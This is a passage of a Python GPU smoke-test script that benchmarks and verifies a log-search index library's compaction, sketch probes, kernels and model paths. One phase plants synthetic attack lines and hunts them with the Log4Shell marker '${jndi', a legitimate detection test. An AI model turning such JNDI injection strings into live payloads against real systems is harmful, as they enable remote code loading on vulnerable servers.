          f"clients) = {load['qps']:.0f} q/s, p50 {load['p50_ms']:.2f} ms, "
          f"p99 {load['p99_ms']:.2f} ms, every answer equal to the direct "
          f"wave; {serving['waves']} waves ({device_waves} device: "
          f"{fused} fused probes, {fold} folds, {extract} extractions), no "
          f"upload; store.serving() answers equal the store's own "
          f"({len(one_terms)} terms, {len(needles)} needles, a batch of "
          f"{len(batch_terms)}), {server_s:.1f} s", flush=True)

    # -------------------------------- compaction and reopen, 4 shards
    # the most crowded size tier merges, once: at fanout 2 every tier
    # merged and the merged ones again, 21 segments into one (no survivor
    # to hold to its slot), in 37-45 s on one H100's host
    placed = [(s, s.get_shard_slot()) for s in segs]
    require([p for _, p in placed] == e4.slots,
            "the slots moved after the 4-shard engine placed them")
    tiers = collections.Counter(s.size_bytes().bit_length() for s in segs)
    fanout = max(2, max(tiers.values()))
    real = distributed.default_shard_devices
    distributed.default_shard_devices = (
        lambda shard_axes=("data",), device=None: [dev] * SHARD_FORCED)
    try:
        t0 = time.perf_counter()
        merges = store.compact(fanout=fanout)
        compact_s = time.perf_counter() - t0
        new = store.engine
        require(merges >= 1 and isinstance(new, ShardedQueryEngine)
                and new.n_shards == SHARD_FORCED, f"compaction: {merges} "
                f"merges, a {type(new).__name__} engine")
        require(all(s.planes is not None for s in store.segments),
                "compaction: a merged segment lost its planes")
        prior = [next((was for old, was in placed if old is s), None)
                 for _, s in new._plane_segs]
        merged = sum(p is None for p in prior)
        require(new.slots == least_loaded(prior, SHARD_FORCED),
                f"compaction: slots {new.slots}, survivors' before "
                f"{prior}")
        compacted = {}
        for kind in kinds:
            compacted[kind], _ = counted(new, kind, "after compaction")
        require(new.upload_count == merged, f"compaction: "
                f"{new.upload_count} uploads for {merged} merged segments")
        host_path(new, "after compaction")
        scan_sample(store, "after compaction")
        n_compacted = len(store.segments)
        store.close()
        t0 = time.perf_counter()
        re = DynaWarpStore.open(path, shard_axes=("data",), device=dev)
        open_s = time.perf_counter() - t0
        require(isinstance(re.engine, ShardedQueryEngine)
                and len(re.engine._plane_segs) == len(re.segments)
                and re.engine.slots == least_loaded(
                    [None] * len(re.segments), SHARD_FORCED),
                f"reopen: slots {re.engine.slots} of {len(re.segments)} "
                f"segments")
        for kind in kinds:
            got, _ = counted(re.engine, kind, "reopened")
            same(got, compacted[kind], f"reopened {kind} wave against the "
                 f"compacted store's")
        require(re.engine.upload_count == len(re.segments),
                f"reopen: {re.engine.upload_count} uploads for "
                f"{len(re.segments)} segments")
        re2 = DynaWarpStore.open(path, shard_axes=("data",), device=dev)
        require([s.get_shard_slot() for s in re2.segments] == re.engine.slots
                == re2.engine.slots, "a second open() did not find the "
                "slots by durable id")
        for kind in kinds:
            got, _ = counted(re2.engine, kind, "second open")
            same(got, compacted[kind], f"second open {kind} wave")
        require(re2.engine.upload_count == 0, f"a second open() uploaded "
                f"{re2.engine.upload_count} segments")
        re.close()
        re2.close()
    finally:
        distributed.default_shard_devices = real
    print(f"sharded compaction ({SHARD_FORCED} logical shards): size tiers "
          f"{dict(sorted(tiers.items()))}, fanout {fanout}: {merges} "
          f"merges of {len(segs)} segments into {n_compacted} in "
          f"{compact_s:.1f} s, {len(prior) - merged} surviving segment(s) "
          f"kept their slots, {merged} merged one(s) placed by the rule and "
          f"uploaded once; waves equal the host path, sampled matches the "
          f"scan store's; close() and open(shard_axes=('data',)) "
          f"{open_s:.3f} s: candidates equal bit for bit, one upload a "
          f"segment; a second open() found the slots {re.engine.slots} by "
          f"durable id and uploaded nothing", flush=True)
    launches = read(counters)
    return dict(launches=launches, summary=dict(
        segments=len(segs), n_shards=own.n_shards, index_bytes=index_bytes,
        ingest_s=ingest_s, host_path_s=host_s, placement=placement,
        waves=waves, serving=serving,
        compaction=dict(fanout=fanout, tiers=dict(tiers), merges=merges,
                        s=compact_s, segments=n_compacted,
                        survivors=len(prior) - merged, merged=merged),
        reopen=dict(open_s=open_s, slots=re.engine.slots)))


# ---------------------------------------------------------------- phase 5
def csc_path(torch, np, dev, counters, seg) -> dict:
    """CscStore on the first CSC_LINES of the segmented path's lines, sized
    by the paper's protocol for phase 4's sketch; the same term and
    contains queries as one csc_probe call over every fingerprint and as
    per-query calls, held to the scan store's matches over the prefix."""
    from repro_torch.core.hashing import token_fingerprint
    from repro_torch.core.tokenizer import (_ALNUM, contains_query_tokens,
                                            term_query_tokens)
    from repro_torch.kernels.csc_probe.ops import csc_partition_mask
    from repro_torch.logstore.store import CscStore

    ds, dw, scan = seg["ds"], seg["store"], seg["scan"]
    terms, needles = seg["terms"], seg["needles"]
    dw_bits = dw.stats.index_bytes * 8
    m_bits = 1 << (dw_bits - 1).bit_length()      # benchmarks/common.py
    # CscStore.candidates_term probes the term and its n-grams (§5.2)
    query_toks = ([term_query_tokens(t) + contains_query_tokens(t)
                   for t in terms] + seg["needle_toks"])
    lens = np.asarray([len(t) for t in query_toks])
    wave_fps = np.fromiter((token_fingerprint(x) for toks in query_toks
                            for x in toks), np.uint32, int(lens.sum()))
    # one per-query call as candidates_term launches it: the term of the
    # median token count, with its n-grams
    median = int(np.sort(lens[:len(terms)])[len(terms) // 2])
    one = query_toks[int(np.flatnonzero(lens[:len(terms)] == median)[0])]
    one_fps = np.fromiter((token_fingerprint(x) for x in one), np.uint32,
                          len(one))

    reset(counters)
    t0 = time.perf_counter()
    lines = ds.lines[:CSC_LINES]
    csc = CscStore(batch_lines=BATCH_LINES, m_bits=m_bits, device=dev)
    csc.ingest(lines)
    csc.finish()
    ingest_s = time.perf_counter() - t0

    def wave():
        fps = torch.from_numpy(wave_fps.view(np.int32)).to(dev)
        mask = csc_partition_mask(csc.sketch, fps)
        torch.cuda.synchronize()
        return fps, mask

    t = time.perf_counter()
    wave()
    cold_s = time.perf_counter() - t
    t = time.perf_counter()
    fps_dev, mask = wave()
    warm_s = time.perf_counter() - t
    t = time.perf_counter()
    per_term = [csc.candidates_term(x) for x in terms]
    per_needle = [csc.candidates_contains(n) for n in needles]
    torch.cuda.synchronize()
    per_query_s = time.perf_counter() - t
    launches = read(counters)
    n_q = len(terms) + len(needles)
    wave_busy = device_busy(torch, wave)
    sample_busy = device_busy(torch, lambda: [csc.candidates_term(x)
                                              for x in terms[:512]])
    print(f"csc device busy: wave {busy_text(*wave_busy)}; 512 per-query "
          f"term calls {busy_text(*sample_busy)}", flush=True)
    print(f"csc: m = {csc.sketch.m} bits (DynaWarp sketch {dw_bits} bits), "
          f"the first {len(lines)} lines, {csc.n_batches} batches, "
          f"ingest+finish {ingest_s:.1f} s; wave of "
          f"{len(wave_fps)} fingerprints ({n_q} queries) in one csc_probe "
          f"call: cold {cold_s * 1e3:.2f} ms, warm {warm_s * 1e3:.2f} ms = "
          f"{n_q / warm_s:.0f} q/s; per-query candidates {per_query_s:.3f} s"
          f" = {n_q / per_query_s:.0f} q/s; launches {launches}", flush=True)

    # ------------------------------------------------------------ checks
    require(torch.equal(mask, csc.sketch.partition_mask_torch(fps_dev)),
            "csc wave mask differs from the plain version")
    host_mask = mask.cpu().numpy()
    ends = np.cumsum(lens)
    for i, got in enumerate(per_term + per_needle):
        rows = host_mask[ends[i] - lens[i]:ends[i]]
        require(np.array_equal(got, csc.sketch.sets_of(rows.all(axis=0))),
                f"csc query {i}: per-query candidates differ from the wave")
    # the exact batches of every term in one pass over the data: the terms
    # are single alphanumeric runs, and such a term matches a line exactly
    # when it is one of the line's rule-1 runs; held to the scan store on
    # the segmented path's sample
    t0 = time.perf_counter()
    require(all(_ALNUM.fullmatch(t) and t == t.lower() for t in terms),
            "a wave term is not a single lowercase alphanumeric run")
    wanted, truth = set(terms), {t: [] for t in terms}
    for b in range(csc.n_batches):
        for t in wanted.intersection(
                _ALNUM.findall("\n".join(csc._batch_lower(b)[1]))):
            truth[t].append(b)
    starts = np.asarray(csc.batch_start)

    def in_prefix(matches):
        return [m for m in matches if m < len(lines)]

    for t, matches in seg["truth"].items():
        want = np.unique(np.searchsorted(
            starts, np.asarray(in_prefix(matches), np.int64),
            side="right") - 1)
        require(np.array_equal(want, truth[t]),
                f"the one-pass truth differs from the scan store on {t!r}")
    # phase 4's DynaWarp store holds all the lines: its batches past the
    # prefix are left out
    dw_cands = [d[d < csc.n_batches] for d in dw.candidates_term_batch(terms)]
    for t, c, d in zip(terms, per_term, dw_cands):
        require(np.isin(truth[t], c).all(), f"csc false negative on {t!r}")
        require(np.isin(truth[t], d).all(), f"dynawarp false negative on {t!r}")
    for t, want in seg["truth"].items():
        require(csc.query_term(t).matches == in_prefix(want),
                f"csc matches differ from the scan store on {t!r}")
    for n in needles[:2]:
        require(csc.query_contains(n).matches
                == in_prefix(scan.query_contains(n).matches),
                f"csc contains matches differ from the scan store on {n!r}")
    require(csc.sketch.upload_count == 1, "the csc sketch uploaded more than once")
    fp_csc = [len(c) - len(truth[t]) for t, c in zip(terms, per_term)]
    fp_dw = [len(d) - len(truth[t]) for t, d in zip(terms, dw_cands)]
    finding = dict(csc_index_bytes=csc.stats.index_bytes,
                   dynawarp_index_bytes=dw.stats.index_bytes,
                   csc_fp_batches_per_term=float(np.mean(fp_csc)),
                   dynawarp_fp_batches_per_term=float(np.mean(fp_dw)),
                   true_batches_per_term=float(np.mean(
                       [len(v) for v in truth.values()])),
                   csc_bits_set_share=float(np.unpackbits(
                       csc.sketch.bits.view(np.uint8)).mean()),
                   batches=csc.n_batches, terms=len(terms))
    print(f"csc checks: no false negatives over {len(terms)} terms, "
          f"{len(seg['truth'])} terms + 2 needles scan-equal, one upload, "
          f"{time.perf_counter() - t0:.1f} s; finding: {finding}", flush=True)
    return dict(launches=launches, ingest_s=ingest_s, m=csc.sketch.m,
                wave_fps=len(wave_fps), wave_cold_s=cold_s,
                wave_warm_s=warm_s, wave_qps=n_q / warm_s,
                wave_profiled_ms=wave_busy[0], wave_busy_ms=wave_busy[1],
                per_query_profiled_ms=sample_busy[0],
                per_query_busy_ms=sample_busy[1],
                per_query_s=per_query_s, per_query_qps=n_q / per_query_s,
                finding=finding, sketch=csc.sketch, fps=fps_dev,
                one_fps=torch.from_numpy(one_fps.view(np.int32)).to(dev))


def check_csc(torch, np, dev, sketch, fps, one_fps) -> dict:
    """csc_probe against its plain version on the CSC path's own sketch
    and wave (the main shape) and on small sketches at the edges; then
    timed at one per-query call (``one_fps``) on that sketch."""
    from repro_torch.baselines.csc import CSCSketch, _seed
    from repro_torch.core.hashing import np_seeded_hash32
    from repro_torch.kernels.csc_probe.ops import csc_partition_mask

    cases = [(sketch, fps, f"m={sketch.m} k={sketch.k} p={sketch.p} "
              f"j={sketch.j} Q={fps.numel()}")]
    rng = np.random.default_rng(SEED)
    # the last two: j x k past the 8 seeds the kernel takes by value, and
    # past a warp's 32 lanes (a lane takes several anchors)
    for m_bits, k, p, j in ((1 << 12, 2, 16, 1), (1 << 16, 4, 64, 2),
                            (64, 3, 64, 2), (1 << 20, 4, 40, 1),
                            (1 << 14, 2, 256, 1), (1 << 16, 4, 64, 3),
                            (1 << 20, 40, 16, 1)):
        sk = CSCSketch.build(m_bits=m_bits, k=k, p=p, j=j)
        ins = rng.integers(0, 2**32, 1500, dtype=np.uint64).astype(np.uint32)
        sk.insert_batch(ins, rng.integers(0, 50, 1500))
        # a small call (lane groups) and a wave (a thread per fingerprint)
        for n in (1000, CSC_WAVE):
            q = np.concatenate([ins[:100], rng.integers(
                0, 2**32, n, dtype=np.uint64).astype(np.uint32)])
            cases.append((sk, u32_tensor(torch, np, q, dev),
                          f"m={m_bits} k={k} p={p} j={j} Q={q.size}"))
    # anchors at m - 32: the 64 bits read the last word and wrap to the first
    sk = CSCSketch.build(m_bits=1 << 10, k=1, p=64, j=1)
    sk.bits[0, -1], sk.bits[0, 0] = 0xFFFFFFFF, 0x0000FFFF
    q = np.arange(200_000, dtype=np.uint32)
    q = q[(np_seeded_hash32(q, _seed(0, 0)) & np.uint32(sk.m - 1)) == sk.m - 32]
    require(q.size > 0, "no wrap-around anchors")
    wrap = csc_partition_mask(sk, u32_tensor(torch, np, q, dev)).cpu().numpy()
    require(wrap[:, :48].all() and not wrap[:, 48:].any(),
            "csc_probe does not wrap at m")
    cases.append((sk, u32_tensor(torch, np, q, dev), f"wrap at m Q={q.size}"))
    cases.append((sketch, fps[:1].clone(), "Q=1"))

    def bytes_of(sk, f, _):
        # fingerprints read, the words each anchor needs, the mask written
        words = sk.j * sk.k * ((sk.p + 31) // 32 + 1)
        return f.numel() * (4 + 4 * words + sk.p)

    flush = l2_flush(torch, dev)

    def run(cases):
        return hold(torch, "csc_probe", cases,
                    lambda sk, f, _: (csc_partition_mask(sk, f),),
                    lambda sk, f, _: (sk.partition_mask_torch(f),),
                    bytes_of, 0, flush)

    out = run(cases)
    out["at_launch"] = run([(sketch, one_fps, f"one per-query call, "
                             f"Q={one_fps.numel()}")])
    return out


# ---------------------------------------------------------------- phase 6
def log_search_path(torch, np, dev, counters) -> dict:
    """``examples/log_search.py`` over every store on the GPU, each held to
    its CPU run, and batch-mode DynaWarp held to segmented mode."""
    from repro_torch.core.tokenizer import contains_query_tokens
    from repro_torch.logstore.datasets import (generate_dataset,
                                               present_id_queries)
    from repro_torch.logstore.store import ALL_STORES, DynaWarpStore

    ds = generate_dataset("hunt", n_lines=HUNT_LINES, n_sources=HUNT_SOURCES,
                          seed=SEED)
    lines = list(ds.lines)
    for pos in HUNT_POS:
        lines[pos] = ATTACK
    terms = present_id_queries(ds, SEED + 5, 64)

    def build(name, device, **kw):
        if name in DEVICE_STORES:
            kw["device"] = device
        store = ALL_STORES[name](batch_lines=HUNT_BATCH, **kw)
        store.ingest(lines)
        store.finish()
        return store

    reset(counters)
    stores, rows = {}, {}
    for name in ALL_STORES:
        t0 = time.perf_counter()
        st = stores[name] = build(name, dev)
        build_s = time.perf_counter() - t0
        t0 = time.perf_counter()
        r = st.query_contains("${jndi")
        query_ms = (time.perf_counter() - t0) * 1e3
        require(r.matches == list(HUNT_POS),
                f"{name} found {r.matches}, not the planted attacks")
        rows[name] = dict(found=len(r.matches),
                          touched=len(r.candidate_batches),
                          batches=r.batches_total, query_ms=query_ms,
                          index_bytes=st.stats.index_bytes, build_s=build_s)
        print(f"log_search {name:9s} found {len(r.matches)} attacks, touched "
              f"{len(r.candidate_batches):4d}/{r.batches_total} batches in "
              f"{query_ms:7.2f} ms (index {st.stats.index_bytes / 1e3:8.1f} "
              f"KB, build {build_s:.1f} s)", flush=True)
    dw = stores["dynawarp"]
    require(dw.mode == "batch", "DynaWarp does not default to batch mode")
    hunt_wave = dw.engine.query_batch([contains_query_tokens("${jndi")])[0]
    term_wave = dw.candidates_term_batch(terms)
    torch.cuda.synchronize()
    launches = read(counters)
    require(np.array_equal(hunt_wave, dw.candidates_contains("${jndi")),
            "batch-mode hunt wave differs from the lone query")

    t0 = time.perf_counter()
    for name in DEVICE_STORES:
        cpu = build(name, "cpu")
        for t in terms + ["${jndi"]:
            fn = "candidates_contains" if t == "${jndi" else "candidates_term"
            require(np.array_equal(getattr(stores[name], fn)(t),
                                   getattr(cpu, fn)(t)),
                    f"{name} on the GPU differs from its CPU run on {t!r}")
    seg = DynaWarpStore(batch_lines=HUNT_BATCH, mode="segmented", device=dev)
    seg.ingest(lines)
    seg.finish()
    require(seg.query_contains("${jndi").matches == list(HUNT_POS),
            "segmented DynaWarp missed an attack")
    for t, a, b in zip(terms, dw.query_term_batch(terms),
                       seg.query_term_batch(terms)):
        require(a.matches == b.matches,
                f"batch and segmented DynaWarp differ on {t!r}")
    require(all(np.array_equal(a, b) for a, b in
                zip(term_wave, [dw.candidates_term(t) for t in terms])),
            "batch-mode term wave differs from lone queries")
    print(f"log_search checks: GPU == CPU for {DEVICE_STORES} over "
          f"{len(terms) + 1} queries, batch == segmented DynaWarp, "
          f"{time.perf_counter() - t0:.1f} s; launches {launches}", flush=True)
    return dict(launches=launches, stores=rows)


def main() -> int:
    t_start = time.perf_counter()
    try:
        import numpy as np
        import torch
    except ImportError as e:
        print(f"chip_smoke: {e}", file=sys.stderr)
        return 2
    if not torch.cuda.is_available():
        print("chip_smoke: torch.cuda.is_available() is false",
              file=sys.stderr)
        return 2
    if not (ROOT / "src" / "repro_torch" / "kernels" / "csrc").is_dir():
        print("chip_smoke: the repro_torch package is not beside this "
              "script", file=sys.stderr)
        return 2
    sys.path.insert(0, str(ROOT / "src"))
    from repro_torch.configs import get_arch
    from repro_torch.kernels import build
    # the plain versions' f32 products in full f32, as the JAX package's
    torch.backends.cuda.matmul.allow_tf32 = False
    torch.backends.cudnn.allow_tf32 = False

    card = subprocess.run(
        ["nvidia-smi", "--query-gpu=name,power.limit",
         "--format=csv,noheader"], capture_output=True, text=True,
        timeout=60, check=True).stdout.strip().splitlines()[0]
    print(card, flush=True)
    dev = torch.device("cuda")

    t0 = time.perf_counter()
    build.build()
    print(f"build: {len(build.SOURCES)} kernels in "
          f"{time.perf_counter() - t0:.1f} s", flush=True)
    floor_ms = launch_floor_ms(torch)
    print(f"launch floor: {floor_ms:.4f} ms (one empty launch)", flush=True)
    os.makedirs(ROOT / "build", exist_ok=True)
    dry_tmp = Path(tempfile.mkdtemp(prefix="dryrun-", dir=ROOT / "build"))
    dry_proc, dry_out = start_dryrun(dry_tmp)
    try:
        return _main(torch, np, dev, card, floor_ms, t_start, dry_proc,
                     dry_out)
    finally:
        if dry_proc.poll() is None:
            dry_proc.kill()
            dry_proc.wait()
        shutil.rmtree(dry_tmp, ignore_errors=True)


def _main(torch, np, dev, card, floor_ms, t_start, dry_proc, dry_out) -> int:
    from repro_torch.configs import get_arch

    marks = [time.perf_counter()]

    def timed(name):
        """Print the wall time since the last phase ended."""
        now = time.perf_counter()
        print(f"time: {name} {now - marks[-1]:.1f} s (script "
              f"{now - t_start:.1f} s)", flush=True)
        marks.append(now)

    kernels = check_kernels(torch, np, dev)
    timed("phase 3")
    kernels.update(check_model_kernels(torch, dev))
    timed("phase 7")
    counters = launch_counters()
    paths = {}
    seg = main_path(torch, np, dev, counters)
    timed("phase 4")
    seg_summary = dict(ingest_s=seg["ingest_s"], waves=seg["waves"])
    launch = seg["token_launch"]
    mat, lens = launch.pop("case")
    flush = l2_flush(torch, dev)

    def th_case(mat, lens, label):
        return [(torch.from_numpy(mat).to(dev), torch.from_numpy(lens).to(dev),
                 f"{label} {mat.shape}")]

    kernels["token_hash"]["at_launch"] = dict(launch, **hold_token_hash(
        torch, th_case(mat, lens, "median ingest launch"), flush))
    kernels["token_hash"]["at_waves"] = {
        name: hold_token_hash(torch, th_case(m, ln, f"{name} wave"), flush)
        for name, (m, ln) in seg.pop("wave_mats").items()}
    kernels["sketch_probe"]["at_launch"] = hold_fused(
        torch, np, [seg.pop("fused_case")], flush)
    kernels["bitset_reduce_batch"]["at_waves"] = {
        name: hold_fold(torch, [(*case, f"{name} wave Qb x Tb x W "
                                 f"{tuple(case[0].shape)} "
                                 f"Q={case[1].numel()}")],
                        f"{name} wave", flush)
        for name, case in seg.pop("wave_folds").items()}
    kernels["bitmap_extract"]["at_waves"] = {
        name: hold_extract(torch, [(*case, f"{name} wave Q x W "
                                    f"{tuple(case[0].shape)} "
                                    f"total={case[2]}")],
                           f"{name} wave", flush)
        for name, case in seg.pop("wave_extracts").items()}
    timed("phase 3 at the path's shapes")
    paths["segmented"] = seg["launches"]
    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract",
                 "token_hash"):
        require(seg["launches"][name] > 0,
                f"the segmented path never launched {name}")
    os.makedirs(ROOT / "build", exist_ok=True)
    tmp = tempfile.mkdtemp(prefix="durable-", dir=ROOT / "build")
    try:
        durable = durable_path(torch, np, dev, counters, seg, tmp)
        paths["durable"] = durable["launches"]
        for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract",
                     "token_hash"):
            require(durable["launches"][name] > 0,
                    f"the durable path never launched {name}")
        kernels["sketch_probe"]["at_reopen"] = hold_fused(
            torch, np, [durable["fused_case"]], flush)
        timed("phase 4b")
        served = serve_path(torch, np, dev, counters, seg, durable)
        timed("phase 4c")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    paths["serve"] = served["launches"]
    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract"):
        require(served["launches"][name] > 0,
                f"the serve path never launched {name}")
    tmp = tempfile.mkdtemp(prefix="sharded-", dir=ROOT / "build")
    try:
        sharded = sharded_path(torch, np, dev, counters, seg, tmp)
        timed("phase 4d")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    paths["shard"] = sharded["launches"]
    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract",
                 "token_hash"):
        require(sharded["launches"][name] > 0,
                f"the sharded path never launched {name}")
    csc = csc_path(torch, np, dev, counters, seg)
    paths["csc"] = csc["launches"]
    for name in ("token_hash", "csc_probe"):
        require(csc["launches"][name] > 0,
                f"the csc path never launched {name}")
    kernels["csc_probe"] = check_csc(torch, np, dev, csc.pop("sketch"),
                                     csc.pop("fps"), csc.pop("one_fps"))
    timed("phase 5")
    hunt = log_search_path(torch, np, dev, counters)
    timed("phase 6")
    paths["log_search"] = hunt["launches"]
    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract",
                 "token_hash", "csc_probe"):
        require(hunt["launches"][name] > 0,
                f"the log_search path never launched {name}")
    pipe, train_data = train_data_path(
        torch, np, dev, counters, seg, get_arch("olmo-1b").config.vocab,
        LM_TRAIN_BATCH, LM_TRAIN_SEQ)
    paths["train_data"] = train_data.pop("launches")
    timed("phase 11a (the sketch-filtered corpus)")
    host = host_extract_path(torch, np, dev, counters, seg)
    paths["host_extract"] = host.pop("launches")
    timed("phase 13c (host extraction)")
    del seg
    free(torch)
    t0 = time.perf_counter()
    mesh = mesh_group(torch)
    mesh_setup_s = time.perf_counter() - t0
    lm = {}
    for arch, layers, batch, prompt in LM_RUNS:
        lm[arch] = lm_path(torch, np, dev, counters, arch, layers, batch,
                           prompt, mesh=mesh if arch == MESH_LM else None)
        paths[f"lm {arch}"] = lm[arch].pop("launches")
    timed("phase 8")
    rec = recsys_path(torch, np, dev, counters)
    timed("phase 9")
    archs = seq_recsys_path(torch, np, dev, counters)
    archs["meshgraphnet"] = gnn_path(torch, np, dev, counters)
    timed("phase 10")
    paths["two_tower"] = rec["two_tower"].pop("launches")
    paths["xdeepfm"] = rec["xdeepfm"].pop("launches")
    kernels["embedding_bag_backward"] = check_ebag_backward(torch, np, dev)
    train = dict(data=train_data,
                 xdeepfm=xdeepfm_train_path(torch, np, dev, counters))
    train["olmo-1b"] = lm_train_path(torch, np, dev, counters, pipe)
    del pipe
    tmp = Path(tempfile.mkdtemp(prefix="mesh-", dir=ROOT / "build"))
    try:
        train["resume"] = train_resume_path(torch, np, dev, counters,
                                            keep=tmp / "ckpt")
        for name, path in (("xdeepfm", "xdeepfm_train"),
                           ("olmo-1b", "lm_train"),
                           ("resume", "train_resume")):
            paths[path] = train[name].pop("launches")
        timed("phase 11")
        meshed = mesh_path(torch, dev, mesh, tmp / "ckpt",
                           lm[MESH_LM]["mesh_prefill"], mesh_setup_s)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
        torch.distributed.destroy_process_group()
    timed("phase 12")
    dry = dryrun_phase(dry_proc, dry_out, train)
    dry["host_extract"] = host
    timed("phase 13 (waiting on the dry run)")
    for path, name in ([(f"lm {arch}", "flash_decode") for arch in lm]
                       + [("two_tower", "retrieval_score"),
                          ("xdeepfm", "embedding_bag"),
                          ("xdeepfm_train", "embedding_bag"),
                          ("xdeepfm_train", "embedding_bag_backward"),
                          ("train_resume", "embedding_bag_backward")]):
        require(paths[path][name] > 0, f"the {path} path never launched {name}")

    src = "src/repro_torch/kernels/csrc/"
    meta = {
        "sketch_probe": (src + "sketch_probe.cu",
                         "src/repro/kernels/sketch_probe/kernel.py:89"),
        "bitset_reduce_batch": (src + "bitset_ops.cu",
                                "src/repro/kernels/bitset_ops/kernel.py:52"),
        "bitset_reduce": (src + "bitset_ops.cu",
                          "src/repro/kernels/bitset_ops/kernel.py:81"),
        "bitmap_extract": (src + "bitmap_extract.cu",
                           "src/repro/kernels/bitmap_extract/kernel.py:54"),
        "token_hash": (src + "token_hash.cu",
                       "src/repro/kernels/token_hash/kernel.py:49"),
        "csc_probe": (src + "csc_probe.cu",
                      "src/repro/kernels/csc_probe/kernel.py:57"),
        "retrieval_score": (src + "retrieval_score.cu",
                            "src/repro/kernels/retrieval_score/kernel.py:31"),
        "embedding_bag": (src + "embedding_bag.cu",
                          "src/repro/kernels/embedding_bag/kernel.py:36"),
        # no Pallas kernel: the JAX package differentiates the wide term's
        # jnp.take with jax.value_and_grad
        "embedding_bag_backward": (src + "embedding_bag.cu",
                                   "src/repro/models/recsys.py:112"),
        "flash_decode": (src + "flash_decode.cu",
                         "src/repro/kernels/flash_decode/kernel.py:68"),
    }
    rows = [dict(name=name, route="cuda", source=meta[name][0],
                 replaces=meta[name][1],
                 launches=sum(p[name] for p in paths.values()),
                 launches_by_path={k: p[name] for k, p in paths.items()},
                 max_abs_err=k["max_abs_err"], ms=k["ms"],
                 plain_ms=k["plain_ms"], bound_ms=k["bound_ms"],
                 bound_by="bytes", library_ms=k.get("library_ms"),
                 shape=k["shape"],
                 **{key: k[key] for key in ("cold_ms", "library_cold_ms",
                                            "at_shapes",
                                            "at_launch", "at_waves",
                                            "at_reopen", "fault_reading",
                                            "repeated_ids",
                                            "probe_entry", "batch_entry",
                                            "padded_entry") if key in k})
            for name, k in kernels.items()]
    total_s = time.perf_counter() - t_start
    print(json.dumps(dict(card=card, total_s=total_s,
                          segmented=dict(ingest_s=seg_summary["ingest_s"],
                                         waves=seg_summary["waves"]),
                          durable=durable["summary"],
                          serve=served["summary"],
                          sharded=sharded["summary"],
                          csc=csc, log_search=hunt["stores"], lm=lm,
                          recsys=rec, archs=archs, train=train)))
    print(json.dumps({"mesh": meshed}))
    print(json.dumps({"dryrun": dry}))
    print(json.dumps({"kernels": rows, "launch_floor_ms": floor_ms}))
    print(json.dumps({"ok": True, "device": {
        "platform": "gpu", "kind": torch.cuda.get_device_name(0),
        "count": torch.cuda.device_count()}}))
    return 0


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--dryrun-child":
        sys.exit(dryrun_child(sys.argv[2]))
    sys.exit(main())
